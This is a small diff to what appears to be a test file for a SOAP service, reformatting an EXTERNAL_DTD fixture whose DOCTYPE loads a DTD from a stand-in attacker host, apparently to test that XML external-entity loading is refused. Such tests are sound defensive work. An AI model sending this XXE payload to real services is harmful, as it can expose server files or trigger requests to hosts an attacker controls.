@@ -187,7 +187,8 @@ EXTERNAL_ENTITY = """<?xml version="1.0"?>
 
 EXTERNAL_DTD = """<?xml version="1.0"?>
 <!DOCTYPE soap:Envelope SYSTEM "http://attacker.invalid/evil.dtd">
-<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body/></soap:Envelope>"""
+<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/">
+<soap:Body/></soap:Envelope>"""
 
 GOOD = answer("DebtorService", "List_GetAll")
 
